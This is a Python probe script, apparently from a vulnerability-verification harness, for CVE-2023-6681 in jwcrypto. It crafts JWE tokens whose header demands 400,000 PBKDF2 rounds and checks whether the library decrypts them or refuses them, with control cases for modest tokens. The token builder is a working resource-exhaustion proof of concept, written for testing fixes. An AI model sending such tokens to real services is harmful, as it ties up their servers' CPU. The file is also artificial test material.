# /// vertice-probe
# id = "PYSEC-2024-104"
# aliases = ["CVE-2023-6681"]
# package = "jwcrypto"
# summary = """\
#   The number of PBKDF2 rounds in an encrypted token's header has no limit, so a stranger's token keeps the \
#   receiver's CPU busy."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L" }]
# cwe = ["CWE-400", "CWE-770"]
# kind = "dos"
# symbols = ["jwcrypto.jwe.JWE", "jwcrypto.jwt.JWT", "jwcrypto.jwe.JWE.deserialize", "jwcrypto.jwe.JWE.decrypt"]
#
# [[affected]]
# package = "jwcrypto"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "1.5.1" }] }]
#
# [cases]
# attack = "a token that asks for 400 000 rounds is decrypted"
# [cases.variants]
# jwt = "the same with another PBES2 algorithm through the JWT class"
# [cases.controls]
# modest = "a token with 8192 rounds, and one made by the library, are decrypted"
#
# [test]
# vulnerable = "1.5.0"
# fixed = "1.5.1"
# ///
"""CVE-2023-6681: unlimited PBKDF2 rounds chosen by the sender."""

import base64
import hashlib
import json
import os
import sys

PASSWORD = b"correct horse"
ROUNDS = 400000


def b64(raw):
    return base64.urlsafe_b64encode(raw).rstrip(b"=")


def make(rounds, algorithm="PBES2-HS256+A128KW"):
    """A compact JWE over a JSON claim, as RFC 7518 (section 4.8) says, with any number of rounds."""
    from cryptography.hazmat.backends import default_backend
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    from cryptography.hazmat.primitives.keywrap import aes_key_wrap

    digest, size = {"PBES2-HS256+A128KW": ("sha256", 16), "PBES2-HS512+A256KW": ("sha512", 32)}[algorithm]
    salt, content_key, nonce = os.urandom(16), os.urandom(16), os.urandom(12)
    head = {"alg": algorithm, "enc": "A128GCM", "p2s": b64(salt).decode(), "p2c": rounds}
    protected = b64(json.dumps(head).encode())
    key = hashlib.pbkdf2_hmac(digest, PASSWORD, algorithm.encode() + b"\0" + salt, rounds, size)
    sealed = AESGCM(content_key).encrypt(nonce, b'{"sub":"alice"}', protected)
    wrapped = aes_key_wrap(key, content_key, default_backend())
    return b".".join([protected, b64(wrapped), b64(nonce), b64(sealed[:-16]), b64(sealed[-16:])]).decode()


def key():
    from jwcrypto.jwk import JWK

    return JWK(kty="oct", k=b64(PASSWORD).decode())


def decrypt(token):
    from jwcrypto.jwe import JWE

    reader = JWE()
    reader.deserialize(token, key())
    return reader.payload


def judge(read):
    from jwcrypto.jwe import InvalidJWEData

    if decrypt(make(8192)) != b'{"sub":"alice"}':
        raise RuntimeError("a modest token is not decrypted")
    try:
        payload = read()
    except InvalidJWEData as error:
        if "too large" in str(error):
            return "blocked", "refused before deriving: Invalid p2c value, too large"
        raise
    if json.loads(payload) == {"sub": "alice"}:
        return "exploited", "all %d rounds were run and the token was decrypted" % ROUNDS
    raise RuntimeError("unexpected payload %r" % payload)


def attack():
    return judge(lambda: decrypt(make(ROUNDS)).decode())


def jwt():
    from jwcrypto.jwt import JWT

    token = make(ROUNDS, "PBES2-HS512+A256KW")
    return judge(lambda: JWT(key=key(), jwt=token, expected_type="JWE").claims)


def modest():
    from jwcrypto.jwe import JWE

    own = JWE(b"text", json.dumps({"alg": "PBES2-HS256+A128KW", "enc": "A128GCM"}))
    own.add_recipient(key())
    got = (decrypt(make(8192)), decrypt(own.serialize(compact=True)))
    return ("works" if got == (b'{"sub":"alice"}', b"text") else "broken"), repr(got)


CASES = {"attack": attack, "jwt": jwt, "modest": modest}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
